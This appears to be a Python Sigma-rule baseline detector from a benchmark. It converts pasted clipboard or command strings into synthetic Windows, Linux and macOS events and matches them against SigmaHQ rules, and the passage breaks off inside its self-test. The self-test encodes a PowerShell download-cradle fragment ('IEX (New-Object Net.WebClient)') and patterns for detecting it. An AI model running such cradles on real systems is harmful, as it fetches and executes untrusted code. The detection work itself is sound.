#!/usr/bin/env python3
"""Sigma "anchor" baseline detector for pasted clipboard / command strings.

Loads the SigmaHQ rule files vendored under rules/ (beside this file) (Detection
Rule License 1.1, see LICENSE.Detection.Rules.md and RULES.md beside this file) and evaluates them, with a small
self-contained implementation of the Sigma detection semantics, on single text
strings.

Usage:
    python3 bench/sigma_baseline/sigma_baseline.py FILE.jsonl [--json] [--rules DIR] [--min-level LEVEL]
    python3 bench/sigma_baseline/sigma_baseline.py --selftest

Each JSONL line is an object with at least {"id": ..., "text": ...}.

--json prints {"flagged": [ids], "n": N, "per_rule": {rule_title: count}} plus two
additive keys: "hits" ({id: [rule titles]}) and "attribution" ({rule_title: {id,
author, level, file}} for every rule that fired, as the DRL asks match output to keep
the rule authors).

How a pasted string is turned into Sigma events (summary; RULES.md has the details)
--------------------------------------------------------------------------------
A rule fires on a text if it matches at least one event synthesised for that text in
at least one plausible "paste context" for the rule's logsource product:

  windows: win_run_dialog (Win+R: parent explorer.exe, RunMRU registry_set event with
           Details = text + "\\1"), win_explorer_addressbar (FileFix: parent explorer.exe,
           TypedPaths\\url1 registry_set event with Details = text),
           win_browser_filedialog (FileFix via browser upload dialog: parent chrome.exe),
           win_terminal_powershell (pasted into a PowerShell console: parent
           powershell.exe, ScriptBlockText = text)
  linux:   linux_terminal (parent /usr/bin/bash)
  macos:   macos_terminal (parent /bin/zsh)

Text fields: CommandLine = the whole (stripped) text, never split per pipeline stage;
Details (registry) as above; ScriptBlockText / Payload / ContextInfo / Data = the
text whenever PowerShell is involved (always in the PowerShell-console context, else
only when powershell/pwsh is at a command position), plus one extra script event per decodable
-EncodedCommand payload (UTF-16LE base64 decoded).

Image / OriginalFileName: one process_creation event per program token found at a
command position of the text (first word; first word after | || & && ; ( ) { } $(
or a newline; the next non-flag word after a launcher such as cmd /c, start, powershell
-c, conhost --headless, bash -c, sudo, nohup, xargs, env, iex, Start-Process; and any
word ending in ".exe").  Bare names are resolved as Windows would
(C:\\Windows\\System32\\<name>.exe; powershell -> ...\\WindowsPowerShell\\v1.0\\powershell.exe)
or as a Unix shell would (/usr/bin/<name>).  ParentImage of such an event is the
nearest preceding shell/script-host token in the text (cmd, powershell, pwsh, conhost,
mshta, wscript, cscript, rundll32, bash, sh, zsh, ...) with ParentCommandLine = text,
else the context's parent process.  Every other field (Product, Hashes, User, ...) is
absent except User/IntegrityLevel/CurrentDirectory, which are fixed to an ordinary
interactive user, so conditions on absent fields are false (and their negation true).
"""
from __future__ import annotations

import argparse
import base64
import binascii
import itertools
import json
import os
import re
import shlex
import sys
from dataclasses import dataclass, field
from typing import Any, Callable

import yaml

HERE = os.path.dirname(os.path.abspath(__file__))
DEFAULT_RULES_DIR = os.path.join(HERE, "rules")
LEVELS = ["informational", "low", "medium", "high", "critical"]


# --------------------------------------------------------------------------------------
# Sigma string values -> matchers
# --------------------------------------------------------------------------------------
STAR = object()  # '*' wildcard
QMARK = object()  # '?' wildcard


def parse_sigma_string(s: str) -> list:
    """Split a Sigma string into literal runs and wildcards (pySigma escaping rules:
    a backslash escapes '*', '?' and '\\'; any other backslash is literal)."""
    parts: list = []
    buf: list[str] = []
    i = 0
    while i < len(s):
        c = s[i]
        if c == "\\" and i + 1 < len(s) and s[i + 1] in "*?\\":
            buf.append(s[i + 1])
            i += 2
            continue
        if c in "*?":
            if buf:
                parts.append("".join(buf))
                buf = []
            parts.append(STAR if c == "*" else QMARK)
        else:
            buf.append(c)
        i += 1
    if buf:
        parts.append("".join(buf))
    return parts


def parts_to_plain(parts: list) -> str:
    """Literal value of a part list (wildcards kept as characters)."""
    return "".join(p if isinstance(p, str) else ("*" if p is STAR else "?") for p in parts)


class Matcher:
    """One concrete pattern: literal/wildcard parts with anchoring, or a regex."""

    __slots__ = ("kind", "lit", "ascii", "rx")

    def __init__(self, parts: list | None = None, start: bool = True, end: bool = True,
                 cased: bool = False, regex: str | None = None, regex_flags: int = 0):
        self.rx = None
        self.lit = None
        self.ascii = True
        if regex is not None:
            self.kind = "re"
            self.rx = re.compile(regex, regex_flags)
            return
        assert parts is not None
        # leading/trailing '*' only remove anchoring ('*x' == endswith x, 'x*' == startswith x)
        parts = list(parts)
        while parts and parts[0] is STAR:
            parts.pop(0)
            start = False
        while parts and parts[-1] is STAR:
            parts.pop()
            end = False
        has_wild = any(not isinstance(p, str) for p in parts)
        if not has_wild and not cased:
            lit = "".join(parts)
            self.lit = lit.lower()
            self.ascii = lit.isascii()
            self.kind = {(False, False): "contains", (True, False): "startswith",
                         (False, True): "endswith", (True, True): "equals"}[(start, end)]
            return
        pat = "".join(re.escape(p) if isinstance(p, str) else (".*" if p is STAR else ".")
                      for p in parts)
        if start:
            pat = "^" + pat
        if end:
            pat = pat + r"\Z"
        self.kind = "re"
        self.rx = re.compile(pat, re.S | (0 if cased else re.I))

    def match(self, value: str, lower: str, is_ascii: bool) -> bool:
        k = self.kind
        if k == "re":
            return self.rx.search(value) is not None
        if is_ascii and not self.ascii:
            return False
        if k == "contains":
            return self.lit in lower
        if k == "startswith":
            return lower.startswith(self.lit)
        if k == "endswith":
            return lower.endswith(self.lit)
        return lower == self.lit


WINDASH_RE = re.compile(r"\B[-/]\b")
WINDASH_CHARS = ["-", "/", "\u2013", "\u2014", "\u2015"]


def windash_variants(parts: list) -> list[list]:
    """pySigma windash: every '-' or '/' at the start of a word becomes -, /, en dash,
    em dash or horizontal bar (all combinations)."""
    slots: list[list] = []
    for p in parts:
        if not isinstance(p, str):
            slots.append([[p]])
            continue
        pieces = []
        last = 0
        for m in WINDASH_RE.finditer(p):
            pieces.append([p[last:m.start()]])
            pieces.append(WINDASH_CHARS)
            last = m.end()
        pieces.append([p[last:]])
        slots.append([["".join(c)] for c in itertools.product(*pieces)])
    out = []
    for combo in itertools.product(*slots):
        merged: list = []
        for seg in combo:
            for x in seg:
                if isinstance(x, str) and merged and isinstance(merged[-1], str):
                    merged[-1] += x
                elif x != "":
                    merged.append(x)
        out.append(merged)
    return out


B64_START = (0, 2, 3)
B64_END = (None, -3, -2)


def base64offset_variants(raw: bytes) -> list[str]:
    """pySigma base64offset: the three encodings of the value at byte offsets 0..2,
    trimmed to the characters that do not depend on neighbouring bytes."""
    out = []
    for i in range(3):
        enc = base64.b64encode(i * b" " + raw)
        out.append(enc[B64_START[i]:B64_END[(len(raw) + i) % 3]].decode())
    return out


class UnsupportedRule(Exception):
    pass


@dataclass
class FieldCond:
    field: str
    groups: list  # list of groups; each group = list[Matcher] (OR); None => null test
    need_all: bool
    is_null: bool = False
    exists: bool | None = None

    def eval(self, ev: "Event", memo: dict) -> bool:
        val = ev.fields.get(self.field)
        if self.exists is not None:
            return (val is not None) == self.exists
        if self.is_null:
            return val is None
        if val is None:
            return False
        key = (id(self), val)
        r = memo.get(key)
        if r is None:
            lower, is_ascii = ev.lower(self.field)
            if self.need_all:
                r = all(any(m.match(val, lower, is_ascii) for m in g) for g in self.groups)
            else:
                r = any(m.match(val, lower, is_ascii) for g in self.groups for m in g)
            memo[key] = r
        return r


def build_field_cond(key: str, value: Any) -> FieldCond:
    bits = key.split("|")
    fname, mods = bits[0], [m.lower() for m in bits[1:]]
    known = {"contains", "startswith", "endswith", "all", "re", "i", "m", "s", "base64",
             "base64offset", "wide", "utf16le", "utf16be", "utf16", "windash", "cased",
             "exists"}
    for m in mods:
        if m not in known:
            raise UnsupportedRule(f"modifier {m!r} not implemented")
    values = value if isinstance(value, list) else [value]
    if "exists" in mods:
        return FieldCond(fname, [], False, exists=bool(values[0]))
    if len(values) == 1 and values[0] is None:
        return FieldCond(fname, [], False, is_null=True)
    cased = "cased" in mods
    groups = []
    for v in values:
        if v is None:
            raise UnsupportedRule("null inside a value list")
        if isinstance(v, bool):
            v = "true" if v else "false"
        v = str(v)
        if "re" in mods:
            flags = (re.I if "i" in mods else 0) | (re.M if "m" in mods else 0) | (re.S if "s" in mods else 0)
            try:
                groups.append([Matcher(regex=v, regex_flags=flags)])
            except re.error as e:
                raise UnsupportedRule(f"bad regex {v!r}: {e}")
            continue
        # value transformations (produce alternative literal part lists)
        if "base64" in mods or "base64offset" in mods:
            lit = parts_to_plain(parse_sigma_string(v))
            if "wide" in mods or "utf16le" in mods:
                raw = lit.encode("utf-16le")
            elif "utf16be" in mods:
                raw = lit.encode("utf-16be")
            elif "utf16" in mods:
                raw = lit.encode("utf-16")
            else:
                raw = lit.encode("utf-8")
            if "base64offset" in mods:
                alts = [[s] for s in base64offset_variants(raw)]
            else:
                alts = [[base64.b64encode(raw).decode()]]
        else:
            alts = [parse_sigma_string(v)]
            if "wide" in mods or "utf16le" in mods:
                alts = [[p.encode("utf-16le").decode("latin-1") if isinstance(p, str) else p for p in a] for a in alts]
        if "windash" in mods:
            alts = [w for a in alts for w in windash_variants(a)]
        start = not ("contains" in mods or "endswith" in mods)
        end = not ("contains" in mods or "startswith" in mods)
        groups.append([Matcher(a, start=start, end=end, cased=cased) for a in alts])
    return FieldCond(fname, groups, need_all="all" in mods)


@dataclass
class Selection:
    """A detection identifier: OR over maps (each map = AND over field conditions),
    or a keyword list."""
    alternatives: list  # list[list[FieldCond]]
    keywords: list | None = None  # list[Matcher]

    def eval(self, ev: "Event", memo: dict) -> bool:
        if self.keywords is not None:
            for fname, val in ev.fields.items():
                if isinstance(val, str):
                    lower, is_ascii = ev.lower(fname)
                    if any(m.match(val, lower, is_ascii) for m in self.keywords):
                        return True
            return False
        return any(all(c.eval(ev, memo) for c in conds) for conds in self.alternatives)


def build_selection(spec: Any) -> Selection:
    if isinstance(spec, dict):
        return Selection([[build_field_cond(k, v) for k, v in spec.items()]])
    if isinstance(spec, list):
        if all(isinstance(x, dict) for x in spec):
            return Selection([[build_field_cond(k, v) for k, v in m.items()] for m in spec])
        if all(isinstance(x, (str, int)) for x in spec):
            return Selection([], keywords=[Matcher(parse_sigma_string(str(x)), start=False, end=False) for x in spec])
    if isinstance(spec, (str, int)):
        return Selection([], keywords=[Matcher(parse_sigma_string(str(spec)), start=False, end=False)])
    raise UnsupportedRule(f"unsupported detection item {spec!r}")


# --------------------------------------------------------------------------------------
# Condition expressions
# --------------------------------------------------------------------------------------
COND_TOKEN_RE = re.compile(r"\s*(\(|\)|[^\s()]+)")


def parse_condition(cond: str, idents: list[str]) -> Callable[[Callable[[str], bool]], bool]:
    if "|" in cond:
        raise UnsupportedRule("aggregation conditions are not supported")
    toks = COND_TOKEN_RE.findall(cond)
    pos = 0

    def peek():
        return toks[pos].lower() if pos < len(toks) else None

    def take():
        nonlocal pos
        t = toks[pos]
        pos += 1
        return t

    def expand(pattern: str) -> list[str]:
        if pattern == "them":
            names = [n for n in idents if not n.startswith("_")]
        else:
            rx = re.compile("^" + ".*".join(re.escape(x) for x in pattern.split("*")) + "$")
            names = [n for n in idents if rx.match(n)]
        if not names:
            raise UnsupportedRule(f"condition pattern {pattern!r} matches nothing")
        return names

    def parse_or():
        left = parse_and()
        while peek() == "or":
            take()
            right = parse_and()
            left = (lambda a, b: lambda f: a(f) or b(f))(left, right)
        return left

    def parse_and():
        left = parse_not()
        while peek() == "and":
            take()
            right = parse_not()
            left = (lambda a, b: lambda f: a(f) and b(f))(left, right)
        return left

    def parse_not():
        if peek() == "not":
            take()
            inner = parse_not()
            return lambda f: not inner(f)
        return parse_atom()

    def parse_atom():
        t = peek()
        if t is None:
            raise UnsupportedRule("unexpected end of condition")
        if t == "(":
            take()
            e = parse_or()
            if peek() != ")":
                raise UnsupportedRule("missing ')'")
            take()
            return e
        raw = take()
        if peek() == "of":
            take()
            names = expand(take())
            q = raw.lower()
            if q == "all":
                return lambda f: all(f(n) for n in names)
            if q in ("any", "1"):
                return lambda f: any(f(n) for n in names)
            if q.isdigit():
                k = int(q)
                return lambda f: sum(1 for n in names if f(n)) >= k
            raise UnsupportedRule(f"bad quantifier {raw!r}")
        if raw not in idents:
            raise UnsupportedRule(f"unknown identifier {raw!r}")
        return lambda f: f(raw)

    expr = parse_or()
    if pos != len(toks):
        raise UnsupportedRule(f"trailing tokens in condition {cond!r}")
    return expr


# --------------------------------------------------------------------------------------
# Rules
# --------------------------------------------------------------------------------------
@dataclass
class Rule:
    title: str
    rid: str
    level: str
    author: str
    file: str
    product: str | None
    category: str | None
    selections: dict
    conditions: list

    def eval_event(self, ev: "Event", memo: dict | None = None) -> bool:
        cache: dict[str, bool] = {}
        memo = {} if memo is None else memo

        def f(name: str) -> bool:
            if name not in cache:
                cache[name] = self.selections[name].eval(ev, memo)
            return cache[name]

        return any(c(f) for c in self.conditions)


def load_rule(path: str) -> Rule:
    with open(path, encoding="utf-8") as fh:
        d = yaml.safe_load(fh)
    det = dict(d["detection"])
    cond = det.pop("condition")
    det.pop("timeframe", None)
    sels = {name: build_selection(spec) for name, spec in det.items()}
    conds = cond if isinstance(cond, list) else [cond]
    ls = d.get("logsource", {}) or {}
    return Rule(title=d["title"], rid=str(d.get("id", "")), level=str(d.get("level", "")),
                author=str(d.get("author", "")), file=os.path.basename(path),
                product=ls.get("product"), category=ls.get("category") or ls.get("service"),
                selections=sels, conditions=[parse_condition(str(c), list(sels)) for c in conds])


def load_rules(rules_dir: str, min_level: str = "informational") -> list[Rule]:
    rules = []
    floor = LEVELS.index(min_level)
    for fn in sorted(os.listdir(rules_dir)):
        if not fn.endswith((".yml", ".yaml")):
            continue
        try:
            r = load_rule(os.path.join(rules_dir, fn))
        except UnsupportedRule as e:
            print(f"warning: skipping {fn}: {e}", file=sys.stderr)
            continue
        if r.level in LEVELS and LEVELS.index(r.level) < floor:
            continue
        rules.append(r)
    return rules


# --------------------------------------------------------------------------------------
# Text -> events
# --------------------------------------------------------------------------------------
class Event:
    __slots__ = ("kind", "fields", "_low")

    def __init__(self, kind: str, fields: dict):
        self.kind = kind
        self.fields = {k: v for k, v in fields.items() if v is not None}
        self._low: dict = {}

    def lower(self, fname: str):
        r = self._low.get(fname)
        if r is None:
            v = self.fields[fname]
            r = (v.lower(), v.isascii())
            self._low[fname] = r
        return r


WIN_HOME = "C:\\Users\\user"
WIN_ENV = {
    "temp": WIN_HOME + "\\AppData\\Local\\Temp", "tmp": WIN_HOME + "\\AppData\\Local\\Temp",
    "appdata": WIN_HOME + "\\AppData\\Roaming", "localappdata": WIN_HOME + "\\AppData\\Local",
    "userprofile": WIN_HOME, "public": "C:\\Users\\Public", "programdata": "C:\\ProgramData",
    "systemroot": "C:\\Windows", "windir": "C:\\Windows", "comspec": "C:\\Windows\\System32\\cmd.exe",
    "programfiles": "C:\\Program Files", "homedrive": "C:", "systemdrive": "C:",
}
WIN_ENV_RE = re.compile(r"%([A-Za-z_]+)%|\$env:([A-Za-z_]+)", re.I)
SPECIAL_WIN_IMAGES = {
    "powershell": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "pwsh": "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
    "explorer": "C:\\Windows\\explorer.exe",
}
# words after which the next non-flag word is (again) a program to run
LAUNCHERS = {"cmd", "start", "call", "powershell", "pwsh", "conhost", "bash", "sh", "zsh", "dash",
             "ksh", "sudo", "doas", "nohup", "exec", "env", "xargs", "nice", "time", "timeout", "wsl",
             "start-process", "saps", "iex", "invoke-expression", "forfiles", "eval", "command"}
# programs that become ParentImage of the programs that follow them in the text
PARENT_LAUNCHERS = {"cmd", "powershell", "pwsh", "conhost", "bash", "sh", "zsh", "dash", "ksh",
                    "mshta", "wscript", "cscript", "rundll32", "forfiles", "wsl", "python", "python3",
                    "node", "osascript", "perl", "ruby", "php"}
COMMAND_FLAGS = {"c", "k", "r", "co", "com", "comm", "comma", "comman", "command", "filepath"}
VALUE_FLAG_PREFIXES = ("windowstyle", "executionpolicy", "encodedcommand", "file", "version",
                       "configurationname", "inputformat", "outputformat", "workingdirectory",
                       "psconsolefile", "user")
SEP_RE = re.compile(r"\r?\n|\|\||&&|\$\(|[|&;(){}]")
DASHES = "-\u2013\u2014\u2015"


def _basename(tok: str) -> str:
    b = re.split(r"[\\/]", tok)[-1].lower()
    return b[:-4] if b.endswith(".exe") else b


def _is_flag(w: str, platform: str) -> bool:
    if w[:1] in DASHES and len(w) > 1:
        return True
    if platform == "windows" and re.fullmatch(r"/[A-Za-z?][A-Za-z:]{0,14}", w):
        return True
    return False


def _is_value_flag(w: str) -> bool:
    name = w.lstrip(DASHES + "/").lower()
    if not name or name in COMMAND_FLAGS:
        return False
    if name in ("d", "u", "g", "w", "ep", "ex", "e", "ec", "en", "f", "v"):
        return True
    return any(p.startswith(name) for p in VALUE_FLAG_PREFIXES) and len(name) >= 2


def program_tokens(text: str, platform: str) -> list[tuple[str, str | None]]:
    """(program token, preceding parent-launcher token or None), in text order."""
    t = text.replace('"', " ").replace("'", " ")
    if platform == "windows":
        t = t.replace("^", "").replace("`", "")
    else:
        t = t.replace("`", " ; ")
    out: list[tuple[str, str | None]] = []
    parent: str | None = None
    expect = True
    for seg in SEP_RE.split(t):
        words = seg.split()
        expect = True
        skip = False
        for w in words:
            if skip:
                skip = False
                continue
            w = w.strip(",")
            if not w:
                continue
            if expect:
                if _is_flag(w, platform):
                    skip = _is_value_flag(w)
                    continue
                out.append((w, parent))
                b = _basename(w)
                expect = b in LAUNCHERS
                if b in PARENT_LAUNCHERS:
                    parent = w
                continue
            if w.lower().endswith(".exe"):
                out.append((w, parent))
                b = _basename(w)
                expect = b in LAUNCHERS
                if b in PARENT_LAUNCHERS:
                    parent = w
    return out


def resolve_image(tok: str, platform: str) -> tuple[str, str]:
    """-> (Image, OriginalFileName)"""
    if platform == "windows":
        tok = WIN_ENV_RE.sub(lambda m: WIN_ENV.get((m.group(1) or m.group(2)).lower(), m.group(0)), tok)
        tok = tok.replace("/", "\\")
        if "\\" in tok or re.match(r"[A-Za-z]:", tok):
            if tok.startswith(".\\"):
                tok = WIN_HOME + tok[1:]
            img = tok
        else:
            b = tok.lower()[:-4] if tok.lower().endswith(".exe") else tok.lower()
            if b in SPECIAL_WIN_IMAGES:
                img = SPECIAL_WIN_IMAGES[b]
            else:
                img = "C:\\Windows\\System32\\" + (tok if "." in tok else tok + ".exe")
        base = img.split("\\")[-1]
        ofn = "pwsh.dll" if base.lower() == "pwsh.exe" else base
        return img, ofn
    home = "/Users/user" if platform == "macos" else "/home/user"
    tok = re.sub(r"^(~|\$HOME|\$\{HOME\})(?=/|$)", home, tok)
    tok = re.sub(r"^\$\{?TMPDIR\}?/?", "/tmp/", tok)
    if tok.startswith("./"):
        tok = home + tok[1:]
    img = tok if "/" in tok else "/usr/bin/" + tok
    return img, img.split("/")[-1]


ENC_RE = re.compile(
    r"(?:^|\s)[" + DASHES + r"/](?:e|ec|en|enc|enco|encod|encode|encoded|encodedc|encodedco|encodedcom|"
    r"encodedcomm|encodedcomma|encodedcomman|encodedcommand)\s+[\"']?([A-Za-z0-9+/]{12,}={0,2})", re.I)


def decoded_encoded_commands(text: str) -> list[str]:
    out = []
    for m in ENC_RE.finditer(text):
        b = m.group(1)
        b += "=" * (-len(b) % 4)
        try:
            s = base64.b64decode(b, validate=False).decode("utf-16le", errors="ignore")
        except (binascii.Error, ValueError):
            continue
        s = s.strip("\x00")
        if s and sum(ch.isprintable() or ch.isspace() for ch in s) >= 0.9 * len(s):
            out.append(s)
    return out


@dataclass
class Context:
    name: str
    platform: str  # windows | linux | macos
    parent_image: str
    parent_cmdline: str
    registry_key: str | None = None  # TargetObject of the paste-history registry write
    details_suffix: str = ""
    powershell_host: bool = False  # text is typed into PowerShell itself


HKU = "HKU\\S-1-5-21-1111111111-2222222222-3333333333-1001"
CONTEXTS = [
    Context("win_run_dialog", "windows", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
            HKU + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a", "\\1"),
    Context("win_explorer_addressbar", "windows", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
            HKU + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\TypedPaths\\url1"),
    Context("win_browser_filedialog", "windows",
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""),
    Context("win_terminal_powershell", "windows",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"", powershell_host=True),
    Context("linux_terminal", "linux", "/usr/bin/bash", "bash"),
    Context("macos_terminal", "macos", "/bin/zsh", "-zsh"),
]
PROCESS_CATS = {"process_creation"}
REGISTRY_CATS = {"registry_set", "registry_event", "registry_add", "registry_delete"}
SCRIPT_CATS = {"ps_script"}
MODULE_CATS = {"ps_module"}
CLASSIC_CATS = {"ps_classic_start", "ps_classic_provider_start"}


def build_events(text: str, ctx: Context) -> dict[str, list[Event]]:
    cl = text.strip()
    plat = ctx.platform
    base_fields = {
        "User": "DESKTOP-1\\user" if plat == "windows" else "user",
        "IntegrityLevel": "Medium" if plat == "windows" else None,
        "CurrentDirectory": (WIN_HOME + "\\") if plat == "windows" else ("/Users/user" if plat == "macos" else "/home/user"),
    }
    procs = []
    toks = program_tokens(cl, plat)
    cmdlines = [cl]
    if plat != "windows":
        # a Unix shell removes quotes before exec; process telemetry then shows argv joined by spaces
        try:
            dq = " ".join(shlex.split(cl, comments=False, posix=True))
        except ValueError:
            dq = cl
        if dq and dq != cl:
            cmdlines.append(dq)
    for c in cmdlines:
        for tok, par in toks:
            img, ofn = resolve_image(tok, plat)
            if par is not None:
                pimg, pcl = resolve_image(par, plat)[0], c
            else:
                pimg, pcl = ctx.parent_image, ctx.parent_cmdline
            procs.append(Event("process", dict(base_fields, Image=img, OriginalFileName=ofn, CommandLine=c,
                                               ParentImage=pimg, ParentCommandLine=pcl)))
        if not toks:
            procs.append(Event("process", dict(base_fields, CommandLine=c, ParentImage=ctx.parent_image,
                                               ParentCommandLine=ctx.parent_cmdline)))
    ev = {"process": procs, "registry": [], "script": [], "module": [], "classic": []}
    if plat != "windows":
        return ev
    if ctx.registry_key:
        ev["registry"].append(Event("registry", {"TargetObject": ctx.registry_key, "EventType": "SetValue",
                                                 "Details": cl + ctx.details_suffix,
                                                 "Image": "C:\\Windows\\explorer.exe"}))
    ps_involved = ctx.powershell_host or any(_basename(t) in ("powershell", "pwsh") for t, _ in toks)
    if ps_involved:
        scripts = [cl] + decoded_encoded_commands(cl)
        ev["script"] = [Event("script", {"ScriptBlockText": s}) for s in scripts]
        ev["module"] = [Event("module", {"Payload": s, "ContextInfo": s}) for s in scripts]
        ev["classic"] = [Event("classic", {"Data": s}) for s in scripts]
    return ev


def rule_event_kind(rule: Rule) -> str | None:
    c = rule.category
    if c in PROCESS_CATS:
        return "process"
    if c in REGISTRY_CATS:
        return "registry"
    if c in SCRIPT_CATS:
        return "script"
    if c in MODULE_CATS:
        return "module"
    if c in CLASSIC_CATS:
        return "classic"
    return None


def select_contexts(spec: str | None) -> list[Context]:
    """spec: None/'all', or comma-separated context names and/or platforms."""
    if not spec or spec == "all":
        return list(CONTEXTS)
    want = {x.strip() for x in spec.split(",") if x.strip()}
    known = {c.name for c in CONTEXTS} | {c.platform for c in CONTEXTS}
    bad = want - known
    if bad:
        raise SystemExit(f"unknown context(s) {sorted(bad)}; choose from {sorted(known)}")
    return [c for c in CONTEXTS if c.name in want or c.platform in want]


class Detector:
    def __init__(self, rules: list[Rule], contexts: list[Context] | None = None):
        self.rules = rules
        self.by_ctx: list[tuple[Context, list[tuple[Rule, str]]]] = []
        for ctx in (CONTEXTS if contexts is None else contexts):
            rs = [(r, rule_event_kind(r)) for r in rules
                  if (r.product in (None, ctx.platform)) and rule_event_kind(r)]
            if rs:
                self.by_ctx.append((ctx, rs))

    def evaluate(self, text: str) -> dict[str, list[str]]:
        """-> {rule title: [contexts in which it fired]}"""
        hits: dict[str, list[str]] = {}
        if not text or not text.strip():
            return hits
        memo: dict = {}  # (field condition, field value) -> bool, shared by all events of this text
        for ctx, rs in self.by_ctx:
            events = build_events(text, ctx)
            for r, kind in rs:
                if any(r.eval_event(e, memo) for e in events[kind]):
                    hits.setdefault(r.title, []).append(ctx.name)
        return hits


# --------------------------------------------------------------------------------------
# CLI
# --------------------------------------------------------------------------------------
def read_jsonl(path: str, text_key: str):
    with open(path, encoding="utf-8") as fh:
        for i, line in enumerate(fh, 1):
            line = line.strip()
            if not line:
                continue
            obj = json.loads(line)
            yield obj.get("id", f"line{i}"), obj.get(text_key) or ""


def run_file(args) -> int:
    det = Detector(load_rules(args.rules, args.min_level), select_contexts(args.contexts))
    meta = {r.title: r for r in det.rules}
    flagged, per_rule, hits_all, n = [], {}, {}, 0
    for iid, text in read_jsonl(args.file, args.field):
        n += 1
        hits = det.evaluate(text)
        if hits:
            flagged.append(iid)
            hits_all[iid] = sorted(hits)
            for t in hits:
                per_rule[t] = per_rule.get(t, 0) + 1
        if not args.json:
            if hits:
                desc = "; ".join(f"{t} [{meta[t].level}]" + (f" @{','.join(c)}" if args.verbose else "")
                                 for t, c in sorted(hits.items()))
                print(f"{iid}\tFLAGGED\t{desc}")
            else:
                print(f"{iid}\tclean")
    per_rule = dict(sorted(per_rule.items(), key=lambda kv: (-kv[1], kv[0])))
    if args.json:
        out = {"flagged": flagged, "n": n, "per_rule": per_rule, "hits": hits_all,
               "attribution": {t: {"id": meta[t].rid, "author": meta[t].author, "level": meta[t].level,
                                   "file": meta[t].file} for t in per_rule}}
        print(json.dumps(out, ensure_ascii=False, indent=1))
    else:
        print(f"\n# rules loaded: {len(det.rules)}; items: {n}; flagged: {len(flagged)}"
              f" ({(100.0 * len(flagged) / n) if n else 0:.1f}%)")
        for t, c in per_rule.items():
            print(f"{c:6d}  {t}  [{meta[t].level}; {meta[t].file}; author: {meta[t].author}]")
        print("# Rules: SigmaHQ (https://github.com/SigmaHQ/sigma), Detection Rule License 1.1")
    return 0


# --------------------------------------------------------------------------------------
# Self-test
# --------------------------------------------------------------------------------------
def _mini_rule(det: dict, product="windows", category="process_creation") -> Rule:
    det = dict(det)
    cond = det.pop("condition")
    sels = {k: build_selection(v) for k, v in det.items()}
    return Rule("t", "", "high", "", "", product, category, sels,
                [parse_condition(c, list(sels)) for c in (cond if isinstance(cond, list) else [cond])])


def selftest(rules_dir: str) -> int:
    fails = 0

    def check(name, got, want):
        nonlocal fails
        ok = got == want
        fails += not ok
        print(f"{'ok  ' if ok else 'FAIL'} {name}: got {got!r}, want {want!r}")

    def ev(**f):
        return Event("process", f)

    # -- semantics on synthetic rules --
    r = _mini_rule({"sel": {"CommandLine|contains": ["abc", "xyz"]}, "condition": "sel"})
    check("list = OR", r.eval_event(ev(CommandLine="..XYZ..")), True)
    r = _mini_rule({"sel": {"CommandLine|contains|all": ["abc", "xyz"]}, "condition": "sel"})
    check("contains|all", (r.eval_event(ev(CommandLine="abc")), r.eval_event(ev(CommandLine="xyzABC"))), (False, True))
    r = _mini_rule({"sel": {"CommandLine": "a*c?e"}, "condition": "sel"})
    check("wildcards", (r.eval_event(ev(CommandLine="AbbbCdE")), r.eval_event(ev(CommandLine="abcde!"))), (True, False))
    r = _mini_rule({"sel": {"CommandLine|endswith": "\\*.exe"}, "condition": "sel"})
    check("escaped wildcard", (r.eval_event(ev(CommandLine="x\\*.exe")), r.eval_event(ev(CommandLine="x\\a.exe"))), (True, False))
    r = _mini_rule({"sel": {"CommandLine|contains|cased": "Hidden"}, "condition": "sel"})
    check("cased", (r.eval_event(ev(CommandLine="-w Hidden")), r.eval_event(ev(CommandLine="-w hidden"))), (True, False))
    r = _mini_rule({"sel": {"CommandLine|re": "^po.er"}, "condition": "sel"})
    check("re is case-sensitive", (r.eval_event(ev(CommandLine="power")), r.eval_event(ev(CommandLine="POWER"))), (True, False))
    r = _mini_rule({"sel": {"CommandLine|re|i": "^po.er"}, "condition": "sel"})
    check("re|i", r.eval_event(ev(CommandLine="POWER")), True)
    r = _mini_rule({"sel": {"CommandLine|contains|windash": " -c "}, "condition": "sel"})
    check("windash", [r.eval_event(ev(CommandLine=f"x {d}c y")) for d in "-/\u2013\u2014\u2015+"],
          [True, True, True, True, True, False])
    payload = base64.b64encode("xx IEX (New-Object Net.WebClient)".encode("utf-16le")).decode()
    r = _mini_rule({"sel": {"CommandLine|base64offset|contains": "IEX (New"}, "condition": "sel"})
    r16 = _mini_rule({"sel": {"CommandLine|wide|base64offset|contains": "IEX (New"}, "condition": "sel"})
    plain = base64.b64encode(b"a IEX (New-Object x)").decode()
    check("base64offset utf8", r.eval_event(ev(CommandLine=plain)), True)
    check("wide|base64offset utf16", (r16.eval_event(ev(CommandLine=payload)), r16.eval_event(ev(CommandLine=plain))), (True, False))
    check("base64offset variants (pySigma test vector)", base64offset_variants(b"foobar"),
          ["Zm9vYmFy", "Zvb2Jhc", "mb29iYX"])
    r = _mini_rule({"a": {"CommandLine|contains": "x"}, "b": {"CommandLine|contains": "y"},
                    "f": {"CommandLine|contains": "z"}, "condition": "(a or b) and not f"})
    check("and/or/not/parens", [r.eval_event(ev(CommandLine=s)) for s in ("x", "y", "xz", "q")], [True, True, False, False])
    r = _mini_rule({"selection_a": {"CommandLine|contains": "x"}, "selection_b": {"CommandLine|contains": "y"},
                    "filter_1": {"CommandLine|contains": "z"},
                    "condition": "all of selection_* and not 1 of filter_*"})
    check("all of / 1 of", [r.eval_event(ev(CommandLine=s)) for s in ("xy", "x", "xyz")], [True, False, False])
    r = _mini_rule({"s1": {"CommandLine|contains": "x"}, "s2": {"CommandLine|contains": "y"}, "condition": "1 of them"})
    check("1 of them", r.eval_event(ev(CommandLine="y")), True)
    r = _mini_rule({"sel": [{"Image|endswith": "\\a.exe"}, {"OriginalFileName": "a.exe"}], "condition": "sel"})
